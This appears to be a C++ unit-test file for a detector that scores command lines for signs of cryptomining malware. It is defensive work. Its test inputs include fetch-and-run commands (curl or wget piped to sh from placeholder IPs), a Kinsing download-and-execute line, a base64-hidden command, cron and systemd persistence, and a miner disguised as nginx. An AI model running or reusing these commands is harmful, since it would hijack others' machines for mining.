#include "detect/miners/command_signals.h"

#include <gtest/gtest.h>

#include "base/digest.h"
#include "detect/miners/addresses.h"

namespace firebreak::detect {
namespace {

using Words = std::vector<std::string>;

int weightOf(const ScoreResult& result, const std::string& signal) {
  for (const Evidence& evidence : result.evidence) {
    if (evidence.signal == signal) return evidence.weight;
  }
  return -1;
}

int weightOf(const Words& line, const std::string& signal) {
  return weightOf(scoreCommandLine(line), signal);
}

int scoreOf(const Words& line) { return scoreCommandLine(line).score; }

TEST(CommandSignals, AStratumUrlIsEnoughAlone) {
  for (const char* url :
       {"stratum+tcp://h:1", "STRATUM+SSL://h.example:443", "stratum+udp://1.2.3.4:5",
        "daemon+http://h:18081", "stratum1+tls12://0xabc.rig@h:1"}) {
    EXPECT_GE(scoreOf({"/x", "-o", url}), kDefaultThreshold) << url;
  }
}

TEST(CommandSignals, AUrlWithoutAHostOrOnEveryAddressIsNone) {
  for (const char* url : {"stratum+tcp://", "stratum+tcp://0.0.0.0:3333", "stratum+tcp://[^ ]+",
                          "stratum+tcp://<pool>:3333", "http://stratum:3333"}) {
    EXPECT_EQ(weightOf({"/x", "-o", url}, "stratum-url"), -1) << url;
  }
}

std::string utf16(const std::string& text) {
  std::string out;
  for (char c : text) {
    out += c;
    out += '\0';
  }
  return out;
}

TEST(CommandSignals, ShellsOfWindowsAreReadToo) {
  const std::string mine = "C:\\m\\a.exe -o stratum+tcp://10.0.0.1:3333 -u w";
  EXPECT_GE(scoreOf({"powershell.exe", "-NoProfile", "-Command", "cd C:\\; " + mine}), kDefaultThreshold);
  EXPECT_GE(scoreOf({"pwsh", "-EncodedCommand", base64Encode(utf16(mine))}), kDefaultThreshold);
  EXPECT_GE(scoreOf({"cmd", "/S", "/C", mine}), kDefaultThreshold);
  EXPECT_GE(weightOf({"powershell", "Invoke-WebRequest -Uri https://github.com/xmrig/xmrig/releases/"
                      "download/v6.21.0/xmrig-6.21.0-msvc-win64.zip -OutFile x.zip"}, "miner-download"),
            weight::kMedium);
  EXPECT_EQ(scoreOf({"powershell", "-Command", "Write-Host ready; Get-Process"}), 0);
}

TEST(CommandSignals, WhatAHostIsMadeToStartIsRead) {
  const std::string mine = "/usr/bin/upd -o stratum+tcp://10.0.0.1:3333 -u w";
  EXPECT_GE(scoreOf({"sh", "-c", "cat > /host/etc/systemd/system/upd.service <<'E'\n[Service]\n"
                     "ExecStart=-" + mine + "\nE\nchroot /host systemctl start upd"}), kDefaultThreshold);
  EXPECT_GE(scoreOf({"sh", "-c", "echo '* * * * * root " + mine + "' >> /host/etc/cron.d/upd"}),
            kDefaultThreshold);
  EXPECT_EQ(scoreOf({"sh", "-c", "cat > /notes.service <<'E'\nExecStart=" + mine + "\nE\n"}), 0)
      << "nobody starts what stands elsewhere";
}

TEST(CommandSignals, ArraysThatGrowAreOneCommandLine) {
  EXPECT_GE(scoreOf({"bash", "-c", "a=(-o pool.hashvault.pro:443 --tls); a+=(-u " +
                     std::string(kStandardAddress) + "); /opt/j \"${a[@]}\""}), kDefaultThreshold);
  EXPECT_GE(scoreOf({"sh", "-c", "U=stratum+tcp; U+=://10.0.0.1:3333; /x -o $U"}), kDefaultThreshold);
}

TEST(CommandSignals, AWalletCountsBesideAPoolOnly) {
  EXPECT_EQ(weightOf({"/x", "--donate", kStandardAddress}, "wallet"), weight::kAdds);
  EXPECT_GE(scoreOf({"/x", "-o", "10.0.0.1:443", "-u", kStandardAddress}), kDefaultThreshold);
  EXPECT_GE(scoreOf({"/x", "-o", "10.0.0.1:443", "-u", kIntegratedAddress}), kDefaultThreshold);
}

TEST(CommandSignals, APoolIsKnownByItsDomainAtALabelsBoundary) {
  EXPECT_EQ(poolDomainOf("gulf.moneroocean.stream"), "moneroocean.stream");
  EXPECT_EQ(poolDomainOf("zpool.ca"), "zpool.ca");
  for (const char* host : {"zpool.cache", "notzpool.ca", "supportxmr.com.shop.example", "xmr"}) {
    EXPECT_TRUE(poolDomainOf(host).empty()) << host;
  }
  EXPECT_EQ(weightOf({"/x", "pool.supportxmr.com:443"}, "pool-domain"), weight::kStrong);
  EXPECT_EQ(weightOf({"/x", "https://supportxmr.com/api"}, "pool-domain"), -1);
  EXPECT_EQ(weightOf({"/x", "https://supportxmr.com/api"}, "pool-website"), weight::kWeak);
}

TEST(CommandSignals, NoSingleStrongSignalPassesTheThreshold) {
  for (const Words& line : {Words{"/x", "pool.supportxmr.com:443"}, Words{"/x", "-a", "rx/0"},
                            Words{"/x", "--donate-level=1"}, Words{"xmrig", "-c", "x"}}) {
    int score = scoreOf(line);
    EXPECT_GE(score, kAlertScore) << line[0] << line[1];
    EXPECT_LT(score, kDefaultThreshold) << line[0] << line[1];
  }
}

TEST(CommandSignals, TwoStrongSignalsPass) {
  EXPECT_GE(scoreOf({"/x", "-a", "rx/0", "--donate-level", "1"}), kDefaultThreshold);
  EXPECT_GE(scoreOf({"/x", "-a", "rx/0", "-o", "pool.supportxmr.com:443"}), kDefaultThreshold);
  EXPECT_GE(scoreOf({"/x", "--rig-id=a", "--randomx-init=2"}), kDefaultThreshold);
  EXPECT_GE(scoreOf({"xmrig", "-o", "10.0.0.1:3333", "-u", "x"}), kDefaultThreshold);
}

TEST(CommandSignals, AlgorithmsAreMinersTokensOnly) {
  for (const char* algorithm :
       {"rx/0", "RX/wow", "cn/r", "cn-lite/1", "argon2/chukwa", "ghostrider", "kawpow", "ethash"}) {
    EXPECT_TRUE(isMinerAlgorithm(algorithm)) << algorithm;
  }
  for (const char* word :
       {"rx/", "sm_80", "sha256", "scrypt", "x86_64", "aes-256-cbc", "", "copy"}) {
    EXPECT_FALSE(isMinerAlgorithm(word)) << word;
  }
}

TEST(CommandSignals, ProgramsAreWholeNamesWithAVersionAtMost) {
  for (const char* name : {"xmrig", "xmrig-6.21.0", "minerd", "cpuminer-avx2", "kdevtmpfsi"}) {
    EXPECT_TRUE(isMinerProgram(name)) << name;
  }
  for (const char* name : {"adminer", "miner", "lotus-miner", "t-rex-64", "xmrigger", ""}) {
    EXPECT_FALSE(isMinerProgram(name)) << name;
  }
}

TEST(CommandSignals, ADownloadOfAMinerIsMedium) {
  EXPECT_EQ(weightOf({"wget", "https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6.tar.gz"},
                     "miner-download"),
            weight::kMedium);
  EXPECT_EQ(weightOf({"git", "clone", "https://github.com/tpruvot/ccminer"}, "miner-download"),
            weight::kMedium);
  EXPECT_EQ(weightOf({"curl", "https://example.org/administrator.tgz"}, "miner-download"), -1);
}

TEST(CommandSignals, WhatIsDoneToTheHostOnlyAdds) {
  EXPECT_EQ(weightOf({"wrmsr", "-a", "0x1a4", "0xf"}, "msr-write"), weight::kSupport);
  EXPECT_EQ(weightOf({"sysctl", "-w", "vm.nr_hugepages=1280"}, "huge-pages"), weight::kWeak);
  EXPECT_EQ(weightOf({"nice", "-n", "19", "ffmpeg"}, "lowest-priority"), weight::kWeak);
}

TEST(CommandSignals, AMinersConfigurationThatIsWrittenIsProof) {
  EXPECT_GE(scoreOf({"sh", "-c",
                     "echo '{\"pools\":[{\"url\":\"h:1\",\"user\":\"u\"}],"
                     "\"donate-level\":1}' > /tmp/c; /x -c /tmp/c"}),
            kDefaultThreshold);
  EXPECT_EQ(scoreOf({"sh", "-c",
                     "echo '{\"pools\":[{\"url\":\"h:1\",\"user\":\"u\"}],"
                     "\"donate-level\":1}' > /tmp/c; grep -c pools /tmp/c; sleep 9"}),
            0);
}

TEST(CommandSignals, HidingItIsSaid) {
  std::string hidden = base64Encode("./x -o stratum+tcp://h:1");
  ScoreResult result = scoreCommandLine(Words{"sh", "-c", "echo " + hidden + "|base64 -d|sh"});
  EXPECT_GE(result.score, kDefaultThreshold);
  EXPECT_EQ(weightOf(result, "encoded-command"), weight::kWeak);
}

TEST(CommandSignals, ThePolicysOwnSignaturesAreProof) {
  MinerSignatures extra;
  extra.poolDomains = {"Corp.Example"};
  extra.wallets = {"wallet-of-ours-1"};
  extra.processes = {"/usr/bin/evil"};
  EXPECT_GE(scoreCommandLine(Words{"/x", "a.corp.example:1"}, extra).score, kDefaultThreshold);
  EXPECT_GE(scoreCommandLine(Words{"/x", "-u", "wallet-of-ours-1.rig"}, extra).score,
            kDefaultThreshold);
  EXPECT_GE(scoreCommandLine(Words{"/tmp/evil"}, extra).score, kDefaultThreshold);
  EXPECT_EQ(scoreCommandLine(Words{"/x", "a.corp.example.org:1"}, extra).score, 0);
}

TEST(CommandSignals, EvidenceNeverHoldsUserOrPassword) {
  ScoreResult result = scoreCommandLine(
      Words{"xmrig", "-o", "stratum+tcp://acct:hunter2@h:1", "-u", "acct", "-p", "hunter2"});
  for (const Evidence& evidence : result.evidence) {
    EXPECT_EQ(evidence.detail.find("hunter2"), std::string::npos) << evidence.detail;
  }
}

int scoreOfScript(const std::string& text) { return scoreOf({"sh", "-c", text}); }

TEST(CommandSignals, AnAddressAndAMinersFlagNeedNoLogin) {
  EXPECT_GE(scoreOf({"/x", "-o", "10.0.0.1:443", "--tls", "--donate-level", "0"}), kDefaultThreshold);
  EXPECT_GE(scoreOf({"/x", "--url=10.0.0.1:443", "--randomx-no-numa"}), kDefaultThreshold);
  EXPECT_EQ(scoreOf({"/x", "-o", "collector:4317", "--tls"}), 0);
}

TEST(CommandSignals, ADonationThatIsNoPercentageIsSomebodyElses) {
  EXPECT_EQ(scoreOf({"/x", "--donate-level", "gold"}), 0);
  EXPECT_EQ(weightOf({"/x", "--donate-level", "5"}, "miner-flag"), weight::kStrong);
}

TEST(CommandSignals, APoolIsToldUnderAnyFlagBesideAWallet) {
  const std::string kaspa = "kaspa:qqllan7cen36lds6rwle9hjdj0av5p50l2mlg52x5c5erzy6mfgwx2787v2py";
  EXPECT_GE(scoreOf({"/x", "-zpool", "ssl://zec.2miners.com:1010", "-zwal",
                     "t1SFq9b9MfrgCDUzUDJmPwMn2ncpmSnBbVY.w"}),
            kDefaultThreshold);
  EXPECT_GE(scoreOf({"/x", "--algo", "kaspa", "--server", "kas.example.net", "--port", "5555", "--user", kaspa}),
            kDefaultThreshold);
  EXPECT_LT(scoreOf({"/faucet", "--rpcserver", "node:16110", "--from", kaspa}), kAlertScore);
  EXPECT_LT(scoreOf({"/exporter", "-wallet", "RL2ZLm1NPEtp1NxEZeyps1DBuaxMXuPk1G", "-api",
                     "https://rvn.2miners.com/api"}),
            kDefaultThreshold);
}

TEST(CommandSignals, APaymentServiceNamesItsNodeAndItsAddress) {
  for (const char* flag : {"--daemon-address", "--server", "-s", "-r", "--daemon"}) {
    EXPECT_LT(scoreOf({"/pay", "--address", kStandardAddress, flag, "node.example:18081"}), kAlertScore) << flag;
  }
}

TEST(CommandSignals, WhatIsFilledInLaterIsAnAddressBesideAWallet) {
  EXPECT_GE(scoreOf({"/x", "-o", "{{workflow.parameters.pool}}", "-u", kStandardAddress}), kDefaultThreshold);
  EXPECT_EQ(scoreOf({"/x", "-o", "{{workflow.parameters.out}}", "-u", "me"}), 0);
}

TEST(CommandSignals, OrdinaryClientsHaveAUrlALoginAndTls) {
  EXPECT_LT(scoreOf({"/c", "--url", "db.example:443", "--user", "svc", "--password", "x", "--tls"}),
            kAlertScore);
  EXPECT_LT(scoreOf({"/c", "--url", "ssl://mq.example:8883", "--username", "u", "--password", "p", "--keepalive",
                     "60", "--tls", "-k"}),
            kAlertScore);
}

TEST(CommandSignals, ATrialOfAnAlgorithmIsNoMiner) {
  EXPECT_EQ(scoreOf({"npm", "test", "--", "--algo", "kawpow"}), 0);
  EXPECT_EQ(scoreOf({"pytest", "--algo", "ethash"}), 0);
  EXPECT_EQ(weightOf({"/x", "--algo", "ethash"}, "miner-algorithm"), weight::kStrong);
}

TEST(CommandSignals, WhatWasFetchedCountsBesideItsOwnEvidence) {
  EXPECT_GE(scoreOfScript("curl -so /tmp/a http://203.0.113.1/a; chmod +x /tmp/a; /tmp/a --donate-level 0"),
            kDefaultThreshold);
  EXPECT_GE(scoreOfScript("wget -qO a.sh https://files.example/a.sh; bash a.sh --rig-id x"), kDefaultThreshold);
  for (const char* script :
       {"curl -sLo /tmp/jq https://github.com/jqlang/jq/releases/download/jq-1.7/jq; chmod +x /tmp/jq; /tmp/jq .",
        "curl -s http://10.0.0.5/bootstrap.sh | sh -s -- --role worker",
        "wget -q http://artifacts.example/agent -O /tmp/.agent; /tmp/.agent --server agent.example:443 --tls"}) {
    EXPECT_EQ(scoreOfScript(script), 0) << script;
  }
}

TEST(CommandSignals, AWalletForAScriptOfAStrangerIsAMinersSetUp) {
  const std::string wallet = kStandardAddress;
  EXPECT_GE(scoreOfScript("curl -s http://203.0.113.9/s.sh | bash -s " + wallet), kDefaultThreshold);
  EXPECT_GE(scoreOfScript("wget -qO /tmp/s.sh http://203.0.113.9/s.sh && sh /tmp/s.sh " + wallet), kDefaultThreshold);
  // Somebody vouches for it: shown, not acted on.
  EXPECT_LT(scoreOfScript("curl -s https://pay.example/install.sh | bash -s " + wallet), kDefaultThreshold);
}

TEST(CommandSignals, AMinersSetUpScriptThatIsRunAsItIsFetchedIsActedOn) {
  EXPECT_GE(scoreOfScript("wget -qO- http://203.0.113.5/setup_moneroocean_miner.sh | bash -s $W"), kDefaultThreshold);
  EXPECT_GE(scoreOfScript("(curl -s http://203.0.113.7/kinsing.sh || wget -q -O - http://203.0.113.7/kinsing.sh) | sh"),
            kDefaultThreshold);
  for (const char* script : {"curl -sO https://raw.example/setup_moneroocean_miner.sh; sha256sum setup_moneroocean_miner.sh",
                             "git clone https://github.com/xmrig/xmrig; curl -s https://sh.rustup.rs | sh"}) {
    EXPECT_LT(scoreOfScript(script), kDefaultThreshold) << script;
  }
}

TEST(CommandSignals, AModuleThatIsRunIsTheProgram) {
  EXPECT_GE(scoreOfScript("pip install -q xmrig-python && python3 -m xmrig"), kDefaultThreshold);
  EXPECT_EQ(scoreOf({"python3", "train.py", "-m", "xmrig"}), 0);
  EXPECT_EQ(scoreOf({"python3", "-m", "http.server", "8080"}), 0);
}

TEST(CommandSignals, APodThatIsStartedIsReadByItsArguments) {
  const std::string wallet = kStandardAddress;
  EXPECT_GE(scoreOfScript("kubectl run web --image=x -- -o pool.supportxmr.com:443 -u " + wallet), kDefaultThreshold);
  EXPECT_EQ(scoreOfScript("kubectl get pods -A | grep pool.supportxmr.com:443"), 0);
}

TEST(CommandSignals, APoolOutOfAVariableThatNobodyKnowsIsOneBesideAMonerosWallet) {
  const std::string wallet = kStandardAddress;
  EXPECT_GE(scoreOfScript("next | while read p; do /tmp/a -o $p -u " + wallet + " -k; done"), kDefaultThreshold);
  EXPECT_EQ(scoreOfScript("next | while read p; do /tmp/a -o $p -u admin -k; done"), 0);
}

TEST(CommandSignals, NamesOfMalwareAreProofWhereTheyAreRun) {
  EXPECT_GE(scoreOfScript("wget -q http://203.0.113.9/kinsing -O /etc/kinsing; chmod +x /etc/kinsing; /etc/kinsing"),
            kDefaultThreshold);
  EXPECT_GE(scoreOf({"/var/tmp/kdevtmpfsi"}), kDefaultThreshold);
  EXPECT_LT(scoreOf({"kinsing"}), kDefaultThreshold);
  EXPECT_EQ(scoreOfScript("for f in /tmp/kinsing /tmp/kdevtmpfsi; do rm -f $f; pkill -9 -f $f; done"), 0);
}

TEST(CommandSignals, AMinerUnderAnotherNameIsMeantToBeOverlooked) {
  EXPECT_EQ(weightOf({"mv", "/tmp/xmrig", "/usr/bin/nginx"}, "miner-renamed"), weight::kStrong);
  for (const Words& line : {Words{"mv", "/tmp/xmrig", "/quarantine/xmrig.infected"}, Words{"cp", "/tmp/xmrig", "/evidence/"},
                            Words{"mv", "a", "b"}}) {
    EXPECT_EQ(scoreOf(line), 0);
  }
}

TEST(CommandSignals, ReleaseFilesAreKnownWithTheirPlatform) {
  for (const char* name : {"dero-miner-linux-amd64", "xmrig-linux-static-x64", "xmrig-6.21.0-linux-x64"}) {
    EXPECT_TRUE(isMinerProgram(name)) << name;
  }
  EXPECT_FALSE(isMinerProgram("lotus-miner-linux-amd64"));
}

TEST(CommandSignals, PatternsOfACaseAreNames) {
  EXPECT_EQ(scoreOfScript("case \"$n\" in\n  xmrig|minerd) kill $p ;;\n  /tmp/kinsing|t-rex) logger x;;\n  *) ;;\nesac"), 0);
  EXPECT_GE(scoreOfScript("case $(uname -m) in x86_64) /tmp/a -o stratum+tcp://10.0.0.1:3333 ;; esac"),
            kDefaultThreshold);
  EXPECT_GE(scoreOfScript("case a in a) true;; esac; /tmp/a -o stratum+tcp://10.0.0.1:3333"), kDefaultThreshold);
}

}  // namespace
}  // namespace firebreak::detect
